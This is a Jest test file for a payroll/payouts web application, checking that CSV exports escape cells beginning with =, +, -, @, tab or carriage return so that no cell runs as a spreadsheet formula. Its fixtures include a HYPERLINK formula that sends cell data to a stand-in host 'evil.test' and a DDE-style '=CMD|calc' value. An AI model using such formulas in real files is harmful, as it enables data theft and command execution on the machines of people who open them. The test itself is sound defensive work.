import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { Role } from '../../../src/auth/auth.enums.js';
import { spreadsheetSafe } from '../../../src/common/csv.js';
import { makePerson, makeUnit, makeUser } from '../../factories/scenario.js';
import { createTestApp, type TestApp } from '../../support/test-app.js';

const FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"Bấm")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];

describe('CSV exports: no cell runs as a formula in a spreadsheet', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp();
    await makeUser(t.db, 'noivu', [Role.HOME_AFFAIRS]);
  });
  afterAll(() => t.close());

  it('escapes = + - @ tab and CR at the start of a cell, and leaves other text alone', () => {
    for (const formula of FORMULAS) expect(spreadsheetSafe(formula)).toBe(`'${formula}`);
    expect(spreadsheetSafe('Nguyễn Văn A')).toBe('Nguyễn Văn A');
    expect(spreadsheetSafe('a=b')).toBe('a=b');
  });

  it('a person named as a formula goes into the payouts CSV as text', async () => {
    const unit = await makeUnit(t.db, { code: '=CMD|calc', name: '@Phường' });
    const [period] = await t.db.query(
      `INSERT INTO evaluation_period (kind, year, quarter, starts_on, ends_on, status) VALUES ('QUARTER', 2025, 4, '2025-10-01', '2025-12-31', 'CLOSED') RETURNING id`,
    );
    for (const name of FORMULAS) {
      const person = await makePerson(t.db, name);
      await t.db.query(
        `INSERT INTO payout (period_id, unit_id, person_id, level, monthly_salary, k, factor, days_appointed, amount_before_cap, scale, amount)
         VALUES ($1, $2, $3, 'GOOD', 5000000, 1.2, 0.8, 92, 4800000, 1, 4800000)`,
        [period.id, unit.id, person.id],
      );
    }
    const response = await request(t.app)
      .get(`/exports/payouts/${period.id}.csv`)
      .set('authorization', `Bearer ${await t.login('noivu')}`);
    expect(response.status).toBe(200);
    const rows: string[][] = parse(response.text.replace(/^\uFEFF/, ''), { relax_column_count: true });
    const cells = rows.slice(1).flat();
    const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil.test/?x="&A1,"Bấm")`);
    expect(cells).toContain(`'=CMD|calc`);
    expect(cells).toContain('4800000');
  });
});
